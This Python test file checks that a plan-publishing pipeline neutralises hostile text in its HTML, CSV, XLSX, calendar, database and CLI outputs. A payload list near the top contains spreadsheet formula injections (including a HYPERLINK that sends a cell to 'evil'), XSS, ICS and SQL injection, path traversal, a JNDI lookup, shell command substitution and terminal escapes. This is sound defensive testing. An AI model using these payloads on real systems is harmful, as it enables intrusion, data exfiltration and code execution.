"""Text of a plan that would steer whatever shows it is text everywhere."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
from datetime import date
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner
from icalendar import Calendar
from msgspec.structs import replace
from openpyxl import load_workbook

from normalizers.titles.institution_names import to_institution_slug
from pipeline.cli import main
from pipeline.dataset.dataset_records import Dataset
from pipeline.export.write import write_exports
from pipeline.publish.build_files import publish_dataset
from pipeline.publish.database import write_database
from pipeline.published.written_values import disarm_formula
from pipeline.report.build_report import build_year_report
from tests.support.made_dataset import YEAR, made

PAYLOADS = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '","=1+1","',
    "a\r\n=1+1,b",
    "</script><script>ran()</script>",
    "<!--<script>",
    "<img src=x onerror=ran()>",
    '"><svg/onload=ran()>',
    "javascript:ran()",
    "{{ 7 * 7 }}{% for x in y %}",
    "&lt;script&gt;",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nATTACH:http://evil/",
    "x\nATTACH;VALUE=URI:http://evil/\\;\\,",
    "'; DROP VIEW items; --",
    "\" OR 1=1; ATTACH 'evil.db'; --",
    "../../../etc/passwd",
    "..\\..\\x",
    "%2e%2e%2f%00",
    "\x1b]0;mine\x07\x1b[2J",
    "a\u202egpj.exe",
    "\u2028\u2029alert(1)",
    "[x](javascript:ran())",
    "${jndi:ldap://evil/x}",
    "$(touch x)`touch x`;touch x|touch x",
    "__proto__",
    "constructor",
    "toString",
    "valueOf",
    "hasOwnProperty",
)


def hostile(payload: str) -> Dataset:
    """A plan that has the payload wherever a plan has text of its own."""
    dataset = made()
    text = {"task": payload, "step": payload, "responsible": payload, "document": payload}
    deadline = {
        "deadline": payload,
        "deadline_kind": "date",
        "deadline_start": date(2026, 5, 1),
        "deadline_end": date(2026, 5, 1),
    }
    step = {**dataset.sections[1].rows[0], **text, **deadline}
    return replace(
        dataset,
        source=replace(dataset.source, name=f"{payload}.pdf", producer=payload),
        sections=[replace(dataset.sections[1], rows=[step, step], title=payload)],
        findings=[{**dataset.findings[0], "message": payload, "detail": payload}],
        responsibles=[
            {"item_id": "2025-26/2.1/1", "position": 1, "party": payload, "office": payload}
        ],
        funding=[{**dataset.funding[0], "item_id": "2025-26/2.1/1", "source": payload}],
        abbreviations=[],
        institution=payload,
        ledger=[{"page": 1, "printed": 40, "cell": 40}],
    )


class Scripts(html.parser.HTMLParser):
    """The elements of a page that could do something, as a browser finds them."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, str | None]] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append(dict(attrs))
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


@pytest.fixture(scope="module")
def calm(tmp_path_factory: pytest.TempPathFactory) -> Scripts:
    """The report of the same plan with harmless text."""
    return _scripts(publish_dataset(hostile("Аудит"), tmp_path_factory.mktemp("calm"), _report))


def _report(files: dict[str, bytes]) -> dict[str, bytes]:
    return build_year_report(files, list)


def _scripts(folder: Path) -> Scripts:
    found = Scripts()
    found.feed((folder / "report.html").read_text("utf-8"))
    return found


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_text(payload: str, calm: Scripts, tmp_path: Path) -> None:
    out = tmp_path / "output"
    folder = publish_dataset(hostile(payload), out, _report)
    assert folder == out / YEAR
    page = _scripts(folder)
    assert (page.scripts, page.handlers) == (calm.scripts, calm.handlers)

    write_exports(out, "2025-26", ("xlsx", "csv", "ics"), tmp_path / "exports")
    for name in ("2.1", "findings", "responsibles", "funding"):
        content = (tmp_path / "exports" / "2025-26-csv" / f"{name}.csv").read_bytes()
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert {len(row) for row in rows} == {len(rows[0])}
        texts = [cell for row in rows for cell in row if not _number(cell)]
        assert [disarm_formula(text) for text in texts] == texts
    for sheet in load_workbook(tmp_path / "exports" / "2025-26.xlsx"):
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]

    calendar = Calendar.from_ical((tmp_path / "exports" / "2025-26.ics").read_bytes())
    events = calendar.walk("VEVENT")
    uids = sorted(str(event["UID"]) for event in events)
    assert [uid[uid.index("2025-26") :] for uid in uids] == [
        "2025-26-2.1-1@ishplan",
        "2025-26-2.1-2@ishplan",
    ]
    assert all(re.fullmatch(r"[\w.@-]+", uid) for uid in uids)
    assert not [event for event in events if "ATTACH" in event]

    write_database(out)
    with duckdb.connect(str(out / "plans.duckdb"), read_only=True) as database:
        (count,) = database.execute("SELECT count(*) FROM items").fetchone() or (0,)
        steps = {step for (step,) in database.execute("SELECT step FROM items").fetchall()}
    assert count == 2
    assert steps == {row["step"] for row in json.loads((folder / "sections/2.1.json").read_bytes())}
    assert {path.name for path in out.iterdir()} == {YEAR, "plans.duckdb"}
    name = to_institution_slug(payload)
    assert not {*name} - {*"abcdefghijklmnopqrstuvwxyz0123456789-_"}, name

    told = CliRunner().invoke(main, ["check", str(out)])
    assert not {"\x1b", "\x07", "\u202e"} & {*told.output}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
